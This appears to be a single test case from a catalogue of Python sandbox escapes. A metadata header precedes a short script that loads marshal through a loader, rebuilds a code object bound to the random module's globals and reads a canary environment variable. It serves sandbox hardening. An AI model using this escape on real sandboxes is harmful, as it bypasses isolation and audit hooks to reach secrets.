# id: marshal-loads-code
# family: code-objects
# kind: escape
# invariant: A, D, E
# origin: found while probing CPython
# technique: marshal makes code objects of bytes, with no compiler and none of its audit events
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: builtins, permits
# fix: structural
# alive-when: canary

import itertools
import random

marshal = itertools.__loader__.load_module("marshal")
stored = marshal.dumps((lambda: _os.environ["PADCELL_CANARY"]).__code__)
trusted = random.seed.__func__.__globals__
print(type(lambda: 0)(marshal.loads(stored), trusted)())
